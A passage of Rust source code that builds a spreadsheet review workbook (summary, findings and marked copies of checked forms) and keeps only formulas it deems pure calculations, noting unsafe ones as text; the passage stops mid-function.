//! The annotated review workbook: one .xlsx a reviewer opens instead of fifty submissions.
//!
//! Sheets, in order:
//! - **Summary** (`Tổng hợp`): one row per input file (branch, code, status, counts, a link to
//!   the file's first finding), coloured by status, and a bar chart of errors and warnings per
//!   branch;
//! - **Findings** (`Phát hiện`): one row per finding, the cell a hyperlink into the marked copy;
//! - a **marked copy** of every sheet that holds a form (`TD-07 M01`): values and formulas as
//!   they were (with their cached results), merges kept, the cells findings name filled by
//!   severity and carrying a note that lists every finding about them. A formula is kept only
//!   if it is a pure calculation inside the workbook ([`crate::read::formula_safety`]); any other is
//!   written as its cached value with a note showing it as text and why it was not kept. Texts
//!   beyond a cell's limit are cut with a marker and a note ([`crate::write::xlsx_limits`]).
//!
//! The bytes depend only on the results and the options: no clock, no hash order, no paths
//! other than the ones given.

use crate::finding::{Finding, Severity};
use crate::messages::render;
use crate::model::{CellRef, NumFmt, Sheet, Value};
use crate::read::formula_safety::{self, Unsafe};
use crate::read::formula_tokens::{self, Token};
use crate::registry::ReviewWords;
use crate::result::{FileResult, Status};
use crate::text::{clip, format_number};
use rayon::prelude::*;
use rust_xlsxwriter::utility::quote_sheet_name;
use rust_xlsxwriter::{
    CalculationMode, Chart, ChartFont, ChartFormat, ChartLegendPosition, ChartSolidFill, ChartType,
    Color, DocProperties, ExcelDateTime, Format, FormatAlign, FormatBorder, FormatUnderline,
    Formula, Note, Url, Workbook, Worksheet, XlsxError,
};
use std::borrow::Cow;
use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

/// The language of the review workbook's words (the registry's: see [`crate::registry::Lang`]).
pub use crate::registry::Lang;

/// How to build the review workbook.
#[derive(Debug, Clone)]
pub struct ReviewOptions {
    pub lang: Lang,
    /// Beyond this many sheets in all, copy only sheets that carry findings.
    pub max_copied_sheets: usize,
}

impl Default for ReviewOptions {
    fn default() -> Self {
        ReviewOptions {
            lang: Lang::En,
            max_copied_sheets: 300,
        }
    }
}

/// Why the review workbook was not written, said in its language (the reasons quoted from
/// the system and the xlsx writer are theirs).
#[derive(Debug, thiserror::Error, miette::Diagnostic)]
pub enum ReviewError {
    #[error("{}", render(dw(*.lang).review_is_input, &[("path", &.path.display().to_string())]))]
    #[diagnostic(
        code(crossfoot::review::output_is_input),
        help("{}", dw(*.lang).review_is_input_help)
    )]
    OutputIsInput { path: PathBuf, lang: Lang },

    #[error("{}", render(dw(*.lang).review_is_folder, &[("path", &.path.display().to_string())]))]
    #[diagnostic(
        code(crossfoot::review::output_is_folder),
        help("{}", render(dw(*.lang).review_is_folder_help, &[("path", &.path.join("review.xlsx").display().to_string())]))
    )]
    OutputIsFolder { path: PathBuf, lang: Lang },

    #[error("{}", render(dw(*.lang).review_cannot_write, &[("path", &.path.display().to_string()), ("reason", .reason)]))]
    #[diagnostic(
        code(crossfoot::review::write),
        help("{}", dw(*.lang).review_cannot_write_help)
    )]
    Write {
        path: PathBuf,
        reason: String,
        lang: Lang,
    },

    #[error("{}", render(dw(*.1).review_cannot_build, &[("reason", .0)]))]
    #[diagnostic(
        code(crossfoot::review::xlsx),
        help("{}", dw(*.1).review_cannot_build_help)
    )]
    Xlsx(String, Lang),
}

/// The words of the diagnostics.
fn dw(lang: Lang) -> &'static crate::registry::DiagWords {
    crate::registry::DiagWords::of(lang)
}

impl From<XlsxError> for ReviewError {
    fn from(e: XlsxError) -> Self {
        ReviewError::Xlsx(e.to_string(), Lang::En)
    }
}

impl ReviewError {
    /// The same error, said in `lang`.
    fn in_lang(self, lang: Lang) -> ReviewError {
        match self {
            ReviewError::Xlsx(reason, _) => ReviewError::Xlsx(reason, lang),
            ReviewError::OutputIsInput { path, .. } => ReviewError::OutputIsInput { path, lang },
            ReviewError::OutputIsFolder { path, .. } => ReviewError::OutputIsFolder { path, lang },
            ReviewError::Write { path, reason, .. } => ReviewError::Write { path, reason, lang },
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Words: the registry's ([`ReviewWords`]; a note's figures: [`crate::write::note`])

/// The Summary's line of totals.
fn totals_line(words: &ReviewWords, t: &Tally) -> String {
    render(
        words.totals,
        &[
            ("files", &t.files.to_string()),
            ("clean", &t.clean.to_string()),
            ("warnings", &t.warnings.to_string()),
            ("errors", &t.errors.to_string()),
            ("unreadable", &t.unreadable.to_string()),
            ("error_count", &t.error_count.to_string()),
            ("warning_count", &t.warning_count.to_string()),
        ],
    )
}

#[derive(Default)]
struct Tally {
    files: usize,
    clean: usize,
    warnings: usize,
    errors: usize,
    unreadable: usize,
    error_count: usize,
    warning_count: usize,
}

// ---------------------------------------------------------------------------------------------
// Colours and limits

const GREEN: u32 = 0xC6EFCE;
const AMBER: u32 = 0xFFEB9C;
const RED: u32 = 0xFFC7CE;
const GREY: u32 = 0xD9D9D9;
const HEADER_FILL: u32 = 0xDDEBF7;
const LINK_BLUE: u32 = 0x0563C1;

/// Fill of a marked cell: (the cell a finding most suspects, another cell the check read).
pub fn mark_fill(s: Severity) -> (u32, u32) {
    match s {
        Severity::Error => (0xFF7C80, 0xFFD7D7),
        Severity::Warning => (0xFFC000, 0xFFF2CC),
        Severity::Info => (0x9DC3E6, 0xDDEBF7),
    }
}

fn mark_border(s: Severity) -> u32 {
    match s {
        Severity::Error => 0xC00000,
        Severity::Warning => 0xBF8F00,
        Severity::Info => 0x2E75B6,
    }
}

/// Longest "first finding" on the Summary, in characters (the Findings sheet has it whole).
const FIRST_FINDING_CHARS: usize = 120;

/// Excel's limits: hyperlinks per worksheet, rows per worksheet, characters per cell.
const MAX_LINKS: usize = 65_530;
const MAX_ROWS: usize = crate::write::xlsx_limits::MAX_ROWS as usize;
const MAX_CELL_CHARS: usize = crate::write::xlsx_limits::MAX_CELL_CHARS;

// ---------------------------------------------------------------------------------------------
// The plan: which sheets are copied, under which names

struct CopyPlan {
    /// (result index, index in `kept`, worksheet name), in workbook order.
    copies: Vec<(usize, usize, String)>,
    /// (result index, original sheet name) → worksheet name of its copy.
    by_sheet: BTreeMap<(usize, String), String>,
    total: usize,
    skipped: usize,
    /// What names each file in sheet names and the chart: its branch code, or its file stem
    /// when it has none or shares it with another file; else, for the chart, its branch name.
    labels: Vec<String>,
}

use crate::result::sheet_has_findings;

fn plan_copies(results: &[FileResult], opts: &ReviewOptions, words: &ReviewWords) -> CopyPlan {
    // Every sheet holding a form counts, also those the check did not keep (see
    // `check::Options::copy_all_up_to`).
    let total: usize = results
        .iter()
        .filter(|r| matches!(r.status, Status::Checked))
        .map(FileResult::form_sheets)
        .sum();
    let only_flagged = total > opts.max_copied_sheets;
    let mut taken: BTreeSet<String> = [words.summary_sheet, words.findings_sheet, "History"]
        .iter()
        .map(|s| s.to_lowercase())
        .collect();
    let mut plan = CopyPlan {
        copies: Vec::new(),
        by_sheet: BTreeMap::new(),
        total,
        skipped: 0,
        labels: Vec::with_capacity(results.len()),
    };
    let code_of = |r: &FileResult| {
        r.unit
            .code
            .as_deref()
            .map(str::trim)
            .filter(|c| !c.is_empty())
            .map(str::to_string)
    };
    // Codes more than one file gives: those files are told apart by their file names.
    let mut seen: BTreeMap<String, usize> = BTreeMap::new();
    for r in results {
        if let Some(c) = code_of(r) {
            *seen.entry(c.to_lowercase()).or_default() += 1;
        }
    }
    let shared = |c: &str| seen.get(&c.to_lowercase()).is_some_and(|n| *n > 1);
    for r in results {
        let label = match code_of(r) {
            Some(c) if !shared(&c) => c,
            Some(_) => file_stem(&r.path),
            None => r
                .unit
                .name
                .as_deref()
                .map(str::trim)
                .filter(|s| !s.is_empty())
                .map(str::to_string)
                .unwrap_or_else(|| file_stem(&r.path)),
        };
        plan.labels.push(label);
    }
    for (ri, r) in results.iter().enumerate() {
        if !matches!(r.status, Status::Checked) {
            continue;
        }
        let prefix = match code_of(r) {
            Some(c) if !shared(&c) => c,
            _ => file_stem(&r.path),
        };
        for (si, sheet) in r.kept.iter().enumerate() {
            if only_flagged && !sheet_has_findings(r, &sheet.name) {
                continue;
            }
            let forms: Vec<&str> = r
                .forms
                .iter()
                .filter(|f| f.sheet == sheet.name)
                .map(|f| f.form.as_str())
                .collect();
            let what = if forms.is_empty() {
                sheet.name.clone()
            } else {
                forms.join("+")
            };
            // The prefix is shortened in its middle so that the form's name still fits.
            let room = crate::write::xlsx_limits::MAX_SHEET_NAME
                .saturating_sub(crate::write::xlsx_limits::utf16_len(&what) + 1)
                .max(12);
            let name = unique_sheet_name(
                &format!("{} {what}", shorten_middle(&prefix, room)),
                &mut taken,
            );
            plan.by_sheet.insert((ri, sheet.name.clone()), name.clone());
            plan.copies.push((ri, si, name));
        }
    }
    plan.skipped = total.saturating_sub(plan.copies.len());
    plan
}

/// `s` in at most `max` UTF-16 units: its start and its end around a `…` when longer (file
/// names differ at either end: `bao-cao-2021-TD07`, `TD07-ban-sua`).
fn shorten_middle(s: &str, max: usize) -> String {
    use crate::write::xlsx_limits::utf16_len;
    if utf16_len(s) <= max || max < 3 {
        return s.to_string();
    }
    let chars: Vec<char> = s.chars().collect();
    let budget = max - 1;
    let (mut head, mut tail) = (0usize, 0usize);
    let (mut i, mut j) = (0usize, chars.len());
    while i < j {
        // Alternate: the start gets the odd unit.
        let take_head = head <= tail;
        let c = if take_head { chars[i] } else { chars[j - 1] };
        let w = c.len_utf16();
        if head + tail + w > budget {
            break;
        }
        if take_head {
            head += w;
            i += 1;
        } else {
            tail += w;
            j -= 1;
        }
    }
    let start: String = chars[..i].iter().collect();
    let end: String = chars[j..].iter().collect();
    format!("{}…{}", start.trim_end(), end.trim_start())
}

fn file_stem(path: &str) -> String {
    let last = path.rsplit(['/', '\\']).next().unwrap_or(path);
    match last.rsplit_once('.') {
        Some((stem, _)) if !stem.is_empty() => stem.to_string(),
        _ => last.to_string(),
    }
}

use crate::write::xlsx_limits::unique_sheet_name;

// ---------------------------------------------------------------------------------------------
// Formats

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
struct Mark {
    severity: Severity,
    primary: bool,
}

#[derive(Debug, Clone, Default, PartialEq, Eq, PartialOrd, Ord)]
struct CellStyle {
    num: Option<String>,
    bold: bool,
    center: bool,
    mark: Option<Mark>,
}

#[derive(Default)]
struct Formats {
    cache: BTreeMap<CellStyle, Format>,
}

impl Formats {
    fn get(&mut self, style: &CellStyle) -> &Format {
        self.cache
            .entry(style.clone())
            .or_insert_with(|| build_format(style))
    }

    /// The format of a cell of `style`, or None for the default style: a cell written without
    /// a format gets the default one (index 0) all the same, and the xlsx writer then does not
    /// hash a whole [`Format`] to look it up (about 3,000 instructions a cell).
    fn styled(&mut self, style: &CellStyle) -> Option<&Format> {
        if *style == CellStyle::default() {
            None
        } else {
            Some(self.get(style))
        }
    }
}

fn build_format(style: &CellStyle) -> Format {
    let mut f = Format::new();
    if let Some(n) = &style.num {
        f = f.set_num_format(n);
    }
    if style.bold {
        f = f.set_bold();
    }
    if style.center {
        f = f
            .set_align(FormatAlign::Center)
            .set_align(FormatAlign::VerticalCenter)
            .set_text_wrap();
    }
    if let Some(m) = style.mark {
        let (strong, light) = mark_fill(m.severity);
        if m.primary {
            f = f
                .set_background_color(Color::RGB(strong))
                .set_border(FormatBorder::Thick)
                .set_border_color(Color::RGB(mark_border(m.severity)))
                .set_bold();
        } else {
            f = f
                .set_background_color(Color::RGB(light))
                .set_border(FormatBorder::Thin)
                .set_border_color(Color::RGB(mark_border(m.severity)));
        }
    }
    f
}

/// The number format code a cell's format stood for, as far as the model keeps it.
fn num_code(f: NumFmt) -> Option<String> {
    let zeros = |d: u8| {
        let d = usize::from(d.min(15));
        if d == 0 {
            "0".to_string()
        } else {
            format!("0.{}", "0".repeat(d))
        }
    };
    match (f.percent, f.decimals) {
        (false, None) => None,
        (false, Some(d)) => Some(zeros(d)),
        (true, d) => Some(format!("{}%", zeros(d.unwrap_or(2)))),
    }
}

fn decimals_code(d: Option<u8>) -> Option<String> {
    d.map(|d| {
        let d = usize::from(d.min(15));
        if d == 0 {
            "#,##0".to_string()
        } else {
            format!("#,##0.{}", "0".repeat(d))
        }
    })
}

fn fill(c: u32) -> Format {
    Format::new().set_background_color(Color::RGB(c))
}

fn header_format() -> Format {
    Format::new()
        .set_bold()
        .set_background_color(Color::RGB(HEADER_FILL))
        .set_border(FormatBorder::Thin)
        .set_text_wrap()
        .set_align(FormatAlign::VerticalCenter)
}

fn link_format(base: Format) -> Format {
    base.set_font_color(Color::RGB(LINK_BLUE))
        .set_underline(FormatUnderline::Single)
}

/// `s` as a cell holds it: cut, with a visible marker, beyond Excel's limit.
fn cell_text(s: &str) -> Cow<'_, str> {
    crate::write::xlsx_limits::cell_text(s).0
}

/// A text of crossfoot's own (a link's, a banner's) as a cell holds it: characters a viewer
/// would obey shown ([`crate::safe::workbook`]), cut beyond Excel's limit.
fn own_text(s: &str) -> String {
    cell_text(&crate::safe::workbook(s)).into_owned()
}

/// Writes a text cell; a text longer than a cell holds is cut with a marker and the cell gets a
/// note saying so.
fn put_text(
    ws: &mut Worksheet,
    row: u32,
    col: u16,
    s: &str,
    format: &Format,
    lang: Lang,
) -> Result<(), XlsxError> {
    // Crossfoot's own sheets show what the inputs hold, and obey none of it.
    let shown = crate::safe::workbook(s);
    let (t, cut) = crate::write::xlsx_limits::cell_text(&shown);
    ws.write_string_with_format(row, col, t, format)?;
    if let Some(n) = cut {
        ws.insert_note(row, col, &note_for(cut_note(lang, n)))?;
    }
    Ok(())
}

/// The note on a text cut to fit a cell.
fn cut_note(lang: Lang, chars: usize) -> String {
    let n = format_number(chars as f64, Some(0), lang.locale());
    let max = format_number(MAX_CELL_CHARS as f64, Some(0), lang.locale());
    render(ReviewWords::of(lang).text_cut, &[("n", &n), ("max", &max)])
}

/// Why a formula is not kept, in the registry's words.
fn unsafe_reason(words: &ReviewWords, why: &Unsafe) -> String {
    match why {
        Unsafe::Function(name) => render(words.unsafe_function, &[("name", name)]),
        Unsafe::ExternalReference => words.unsafe_external.to_string(),
        Unsafe::Dde => words.unsafe_dde.to_string(),
        Unsafe::DefinedName(name) => render(words.unsafe_name, &[("name", name)]),
        Unsafe::TooLong(n) => render(
            words.unsafe_too_long,
            &[
                ("n", &n.to_string()),
                ("max", &formula_safety::MAX_FORMULA_CHARS.to_string()),
            ],
        ),
        Unsafe::Unreadable(w) => render(words.unsafe_unreadable, &[("why", w)]),
    }
}

/// The note on a cell whose formula was not kept: why, and the formula as text.
fn formula_note(lang: Lang, formula: &str, why: &Unsafe) -> String {
    let formula = formula.trim();
    let formula = formula.strip_prefix('=').unwrap_or(formula);
    let words = ReviewWords::of(lang);
    let text = render(
        words.formula_not_kept,
        &[("why", &unsafe_reason(words, why)), ("formula", formula)],
    );
    crate::write::xlsx_limits::note_text(&text).into_owned()
}

/// The note on a sheet some of whose cells lie beyond Excel's grid.
fn beyond_grid_note(lang: Lang, cells: usize) -> String {
    let n = format_number(cells as f64, Some(0), lang.locale());
    render(ReviewWords::of(lang).beyond_grid, &[("n", &n)])
}

// ---------------------------------------------------------------------------------------------
// Paper and screen: the review workbook and the marked copies print on A4, one table across

/// Excel's code of A4 paper (`paperSize="9"`).
pub const A4: u8 = 9;
/// The height of one line of text at the default font (Calibri 11), in points.
pub const LINE_HEIGHT: f64 = 15.0;
/// The tallest row a spreadsheet allows, in points.
pub const MAX_ROW_HEIGHT: f64 = 409.0;

/// The lines `text` takes in a wrapped cell `width` characters wide (the column width unit:
/// one digit of the default font). Spreadsheet programs do not all grow a row to fit wrapped
/// text on opening, and none on printing: the height is set from this estimate. It errs
/// towards more lines: words wrap greedily at 1.2 characters a width unit less the cell's
/// padding (Vietnamese and English text, mostly lower case, run at about 1.4 in LibreOffice's
/// rendering of Calibri's stand-in and in Excel), a word longer than a line is broken, and
/// each line break of the text starts a line.
pub fn wrapped_lines(text: &str, width: f64) -> usize {
    let per_line = ((width - 1.0) * 1.2).floor().max(1.0) as usize;
    text.split('\n')
        .map(|para| {
            let mut lines = 1usize;
            let mut used = 0usize;
            for word in para.split(' ') {
                let n = word.chars().count();
                if used == 0 {
                    used = n;
                } else if used + 1 + n <= per_line {
                    used += 1 + n;
                } else {
                    lines += 1;
                    used = n;
                }
                while used > per_line {
                    lines += 1;
                    used -= per_line;
                }
            }
            lines
        })
        .sum()
}

/// The height, in points, of a row whose tallest wrapped cell takes `lines` lines.
pub fn row_height(lines: usize) -> f64 {
    (lines.max(1) as f64 * LINE_HEIGHT + 3.0).min(MAX_ROW_HEIGHT)
}

/// The lines a row of wrapped cells takes: its tallest cell's.
fn row_lines<'a>(cells: impl IntoIterator<Item = (&'a str, f64)>) -> usize {
    cells
        .into_iter()
        .map(|(t, w)| wrapped_lines(t, w))
        .max()
        .unwrap_or(1)
}

/// A4 landscape, fitted to one page across (as many down as it takes), the rows `head`
/// repeated on every page, centred, with the sheet's name and the page in the footer.
fn paper_landscape(ws: &mut Worksheet, head: (u32, u32)) -> Result<(), XlsxError> {
    ws.set_paper_size(A4)
        .set_landscape()
        .set_print_fit_to_pages(1, 0)
        .set_print_center_horizontally(true)
        .set_margins(0.4, 0.4, 0.5, 0.6, 0.3, 0.3)
        .set_footer("&L&A&R&P / &N");
    ws.set_repeat_rows(head.0, head.1)?;
    Ok(())
}

// ---------------------------------------------------------------------------------------------
// The workbook

/// The review workbook's bytes (deterministic: same results → same bytes).
pub fn review_workbook(
    results: &[FileResult],
    opts: &ReviewOptions,
) -> Result<Vec<u8>, ReviewError> {
    review_workbook_noted(results, opts, &BTreeMap::new())
}

/// [`review_workbook`] with reviewers' notes on findings marked explained (the review desk's
/// marks), by (result, finding) index: a column of the Findings sheet when there are any.
pub fn review_workbook_noted(
    results: &[FileResult],
    opts: &ReviewOptions,
    notes: &BTreeMap<(usize, usize), String>,
) -> Result<Vec<u8>, ReviewError> {
    assemble(results, opts, notes, BTreeMap::new())
}

/// A marked copy written (its worksheet not yet named) and what writing it found.
type Copy = (Worksheet, CopyWritten);

/// The review workbook built as the results come in ([`ReviewBuilder::add`], in the order of
/// the workbook's rows), while later files are still being checked; its bytes once all are in
/// ([`ReviewBuilder::workbook`]), the same as [`review_workbook`]'s of the same results.
///
/// A file's marked copies are written when it comes in, except those the whole run settles:
/// a copy with a formula naming another sheet (it names that sheet's copy, whose name depends
/// on every file's code), or one whose sheet may turn out not to be copied. Those are written
/// at the end, as [`review_workbook`] writes every copy. A copy written ahead depends on
/// nothing else: it is only named at the end. Results are kept without the cells of the
/// sheets written ahead.
pub struct ReviewBuilder {
    opts: ReviewOptions,
    results: Vec<FileResult>,
    /// The copies written ahead, by (result index, index in `kept`).
    ahead: BTreeMap<(usize, usize), Copy>,
    /// Sheets holding forms so far (the plan's total): beyond the options' maximum, only
    /// sheets with findings are copied.
    sheets: usize,
    /// The run has more sheets than the maximum: the results keep no cells of sheets without
    /// findings.
    only_flagged: bool,
}

impl ReviewBuilder {
    pub fn new(opts: ReviewOptions, files: usize) -> ReviewBuilder {
        ReviewBuilder {
            opts,
            results: Vec::with_capacity(files),
            ahead: BTreeMap::new(),
            sheets: 0,
            only_flagged: false,
        }
    }

    /// Takes the next file's result, writing its copies that depend on nothing to come.
    pub fn add(&mut self, r: &FileResult) {
        let ri = self.results.len();
        let checked = matches!(r.status, Status::Checked);
        if checked {
            self.sheets += r.form_sheets();
        }
        // Beyond the maximum, only sheets with findings are copied: those are copied in any
        // case, and written now; the others wait for the end, unless the run surely has more
        // than the maximum (a sheet's name is then all the plan reads of it).
        let only_flagged = self.sheets > self.opts.max_copied_sheets;
        if only_flagged && !self.only_flagged {
            self.only_flagged = true;
            for r in &mut self.results {
                let mut kept = std::mem::take(&mut r.kept);
                for sheet in &mut kept {
                    if !sheet_has_findings(r, &sheet.name) {
                        *sheet = named_only(sheet);
                    }
                }
                r.kept = kept;
            }
        }
        let words = ReviewWords::of(self.opts.lang);
        let mut kept = Vec::with_capacity(r.kept.len());
        for (si, sheet) in r.kept.iter().enumerate() {
            let flagged = sheet_has_findings(r, &sheet.name);
            let ahead = (checked && flagged)
                .then(|| copy_ahead(r, ri, sheet, &self.opts, words))
                .flatten();
            match ahead {
                Some(copy) => {
                    self.ahead.insert((ri, si), copy);
                    kept.push(named_only(sheet));
                }
                None if checked && only_flagged && !flagged => kept.push(named_only(sheet)),
                None => kept.push(sheet.clone()),
            }
        }
        self.results.push(r.with_kept(kept));
    }

    /// The language of the review workbook.
    pub fn lang(&self) -> Lang {
        self.opts.lang
    }

    /// The review workbook's bytes.
    pub fn workbook(self) -> Result<Vec<u8>, ReviewError> {
        let bytes = assemble(&self.results, &self.opts, &BTreeMap::new(), self.ahead);
        drop_aside(self.results);
        bytes
    }
}

/// A sheet's name without its cells.
fn named_only(sheet: &Sheet) -> Sheet {
    Sheet {
        name: sheet.name.clone(),
        ..Sheet::default()
    }
}

/// The marked copy of `sheet` when it depends on no other file: None when a kept formula names
/// another sheet (or the writer refused something: the copy is then written again at the end,
/// where the error is said).
fn copy_ahead(
    r: &FileResult,
    ri: usize,
    sheet: &Sheet,
    opts: &ReviewOptions,
    words: &ReviewWords,
) -> Option<Copy> {
    let named_other = std::cell::Cell::new(false);
    let rename = |_: &str| {
        named_other.set(true);
        None
    };
    let copy = write_marked_copy(r, ri, sheet, &rename, opts, words).ok()?;
    (!named_other.get()).then_some(copy)
}

/// A marked copy with its banner, not yet named.
fn write_marked_copy(
    r: &FileResult,
    ri: usize,
    sheet: &Sheet,
    rename: &dyn Fn(&str) -> Option<String>,
    opts: &ReviewOptions,
    words: &ReviewWords,
) -> Result<Copy, ReviewError> {
    let mut ws = Worksheet::new();
    let mut formats = Formats::default();
    let done = write_copy(&mut ws, r, sheet, rename, opts, &mut formats)?;
    let summary_row = (ri < MAX_ROWS - 8).then_some(ri as u32 + 1);
    write_banner(&mut ws, r, sheet, summary_row, words)?;
    Ok((ws, done))
}

/// The names of the copies of file `ri`'s sheets, by the lowercased name of the sheet, for
/// formulas that refer to another sheet of the same file.
fn renames_in(plan: &CopyPlan, ri: usize) -> BTreeMap<String, &str> {
    plan.by_sheet
        .range((ri, String::new())..)
        .take_while(|((i, _), _)| *i == ri)
        .map(|((_, name), copy)| (name.to_lowercase(), copy.as_str()))
        .collect()
}

/// The review workbook of `results`, with the copies already written in `ahead` (by result
/// and sheet index; any other is written here).
fn assemble(
    results: &[FileResult],
    opts: &ReviewOptions,
    notes: &BTreeMap<(usize, usize), String>,
    mut ahead: BTreeMap<(usize, usize), Copy>,
) -> Result<Vec<u8>, ReviewError> {
    let words = ReviewWords::of(opts.lang);
    let plan = plan_copies(results, opts, words);

    let mut wb = Workbook::new();
    // Faster compression than rust_xlsxwriter's default (level 6 of 9). Level 2 (zlib-rs's
    // fast strategy; 3 is its medium one): on the 199 benchmark workbooks' review, 21.5 M
    // fewer instructions of the main process's 524 M for a file 5 % larger (level 1: 70 M
    // fewer, 26 % larger); on 2,000, 3.25 MB instead of 3.08 MB. See docs/performance.md.
    wb.set_zip_compression_level(2);
    let created = ExcelDateTime::from_ymd(2000, 1, 1)?;
    wb.set_properties(
        &DocProperties::new()
            .set_creation_datetime(&created)
            .set_author("crossfoot")
            .set_custom_property(
                crate::read::sniff::MARK_PROPERTY,
                crate::read::sniff::REVIEW_MARK,
            )
            .set_title(words.summary_sheet),
    );

    // Where each file's findings start in the Findings sheet (row 0 is the header).
    let max_findings = MAX_ROWS - 1;
    let total_findings: usize = results.iter().map(findings_rows).sum();
    let mut first_row = Vec::with_capacity(results.len());
    let mut next = 1usize;
    for r in results {
        let n = findings_rows(r);
        first_row.push((n > 0 && next <= max_findings).then_some(next));
        next += n;
    }

    // The Summary, the Findings and the copies are built in parallel (each its own
    // worksheet), then added in that order.
    // The worksheets are ordinary (held in memory until saved), not rust_xlsxwriter's
    // constant- or low-memory ones: its 0.102 writes the last row of such a sheet twice when
    // that row has a height set (every row of these sheets has), and the marked copies are
    // built in parallel while a streamed sheet numbers its formats in the workbook's table as
    // it writes (an order that would follow the threads' timing). See docs/performance.md.
    // The Summary and the Findings are independent of each other too: built side by side.
    let summary_and_findings = || -> Result<(Worksheet, Worksheet), ReviewError> {
        let (summary, findings) = rayon::join(
            || -> Result<Worksheet, ReviewError> {
                let mut summary = Worksheet::new();
                write_summary(
                    &mut summary,
                    results,
                    &plan,
                    &first_row,
                    total_findings,
                    opts,
                    words,
                )?;
                Ok(summary)
            },
            || -> Result<Worksheet, ReviewError> {
                let mut findings = Worksheet::new();
                write_findings(&mut findings, results, &plan, words, opts.lang, notes)?;
                Ok(findings)
            },
        );
        Ok((summary?, findings?))
    };
    let written: Vec<Option<Copy>> = plan
        .copies
        .iter()
        .map(|(ri, si, _)| ahead.remove(&(*ri, *si)))
        .collect();
    drop(ahead);
    let copies = || -> Vec<Result<Copy, ReviewError>> {
        plan.copies
            .par_iter()
            .zip(written)
            .map(|((ri, si, name), written)| {
                let (mut ws, done) = match written {
                    Some(copy) => copy,
                    None => {
                        let renames = renames_in(&plan, *ri);
                        let rename =
                            |name: &str| renames.get(&name.to_lowercase()).map(|s| s.to_string());
                        let r = &results[*ri];
                        write_marked_copy(r, *ri, &r.kept[*si], &rename, opts, words)?
                    }
                };
                ws.set_name(name)?;
                Ok((ws, done))
            })
            .collect()
    };
    let (first, copies) = rayon::join(summary_and_findings, copies);
    let (summary, findings) = first?;
    wb.push_worksheet(summary);
    wb.push_worksheet(findings);
    let mut all_pure = true;
    for c in copies {
        let (ws, done) = c?;
        all_pure &= done.all_formulas_pure;
        wb.push_worksheet(ws);
    }
    // rust_xlsxwriter asks for a full recalculation on load (`fullCalcOnLoad`) in its
    // automatic mode; that is only allowed when every formula kept is a pure calculation.
    if !all_pure {
        wb.set_calculation_mode(CalculationMode::Manual);
    }
    let bytes = wb.save_to_buffer()?;
    drop_aside(wb);
    Ok(bytes)
}

/// Frees `what` on a thread of its own, so that the bytes just made are written meanwhile:
/// a review workbook's worksheets and the results it was made of are hundreds of thousands of
/// small allocations (18 ms of the 320 ms after the last result, on the benchmark's 2,000
/// workbooks). Without a thread, here. The command line may end before the thread does; the
/// system takes the memory back then.
fn drop_aside<T: Send + 'static>(what: T) {
    // A thread that cannot be started hands the value back (inside the closure) and drops it
    // here.
    let _ = std::thread::Builder::new()
        .name("crossfoot-free".into())
        .spawn(move || drop(what));
}

/// A workbook holding the marked copies of one file's kept sheets under their own names (for
/// the rebuilt copy of [`crate::write::mark`]: formats not kept, formulas through
/// [`crate::read::formula_safety`] as in the review workbook), not yet saved; and the sheet names
/// taken (lowercased).
pub fn rebuilt_copy(
    r: &FileResult,
    lang: Lang,
) -> Result<(Workbook, BTreeSet<String>), ReviewError> {
    let opts = ReviewOptions {
        lang,
        ..ReviewOptions::default()
    };
    let mut taken = BTreeSet::new();
    let mut plan = CopyPlan {
        copies: Vec::new(),
        by_sheet: BTreeMap::new(),
        total: r.kept.len(),
        skipped: 0,
        labels: vec![],
    };
    for (si, sheet) in r.kept.iter().enumerate() {
        let name = unique_sheet_name(&sheet.name, &mut taken);
        plan.by_sheet.insert((0, sheet.name.clone()), name.clone());
        plan.copies.push((0, si, name));
    }
    let mut wb = Workbook::new();
    let mut all_pure = true;
    for (_, si, name) in &plan.copies {
        let mut ws = Worksheet::new();
        ws.set_name(name)?;
        let mut formats = Formats::default();
        let renames = renames_in(&plan, 0);
        let rename = |name: &str| renames.get(&name.to_lowercase()).map(|s| s.to_string());
        let done = write_copy(&mut ws, r, &r.kept[*si], &rename, &opts, &mut formats)?;
        all_pure &= done.all_formulas_pure;
        wb.push_worksheet(ws);
    }
    if !all_pure {
        wb.set_calculation_mode(CalculationMode::Manual);
    }
    Ok((wb, taken))
}

/// The rows a file takes in the Findings sheet: one per finding, one for an unreadable file.
fn findings_rows(r: &FileResult) -> usize {
    r.findings.len() + usize::from(matches!(r.status, Status::Unreadable(_)))
}

fn status_of(r: &FileResult) -> (u32, usize, usize) {
    let (e, w) = (r.count(Severity::Error), r.count(Severity::Warning));
    let colour = match &r.status {
        Status::Unreadable(_) | Status::Skipped(_) => GREY,
        Status::Checked if e > 0 => RED,
        Status::Checked if w > 0 => AMBER,
        Status::Checked => GREEN,
    };
    (colour, e, w)
}

/// The Summary's column widths: file, branch, code, status, errors, warnings, first finding,
/// the chart's label (hidden).
const SUMMARY_WIDTHS: [f64; 8] = [26.0, 22.0, 10.0, 22.0, 8.0, 10.0, 52.0, 18.0];
/// Beyond this many branches the Summary has no chart: its table says it.
pub const MAX_CHART_BRANCHES: usize = 15;
/// The chart's height for each branch, in pixels: a line of its 9-point labels and room
/// around it, so that no label is left out for lack of room.
pub const CHART_PX_PER_BRANCH: usize = 40;

fn write_summary(
    ws: &mut Worksheet,
    results: &[FileResult],
    plan: &CopyPlan,
    first_row: &[Option<usize>],
    total_findings: usize,
    opts: &ReviewOptions,
    words: &ReviewWords,
) -> Result<(), ReviewError> {
    ws.set_name(words.summary_sheet)?;
    paper_landscape(ws, (0, 0))?;
    let head = header_format();
    let headers = [
        words.file,
        words.branch,
        words.code,
        words.status,
        words.errors,
        words.warnings,
        words.first_finding,
        words.chart_label,
    ];
    for (c, h) in headers.iter().enumerate() {
        ws.write_string_with_format(0, c as u16, *h, &head)?;
    }
    // One table across an A4 page in landscape (the chart goes below it).
    let widths = SUMMARY_WIDTHS;
    for (c, w) in widths.iter().enumerate() {
        ws.set_column_width(c as u16, *w)?;
    }
    ws.set_row_height(
        0,
        row_height(row_lines(headers.iter().copied().zip(widths).take(7))),
    )?;
    // The chart's labels are a helper column, hidden (the chart shows hidden data).
    ws.set_column_hidden(7)?;
    let findings_sheet = quote_sheet_name(words.findings_sheet);
    let mut tally = Tally::default();
    let mut row_formats: BTreeMap<u32, [Format; 3]> = BTreeMap::new();
    let rows = results.len().min(MAX_ROWS - 8);
    let mut heights = vec![row_height(row_lines(
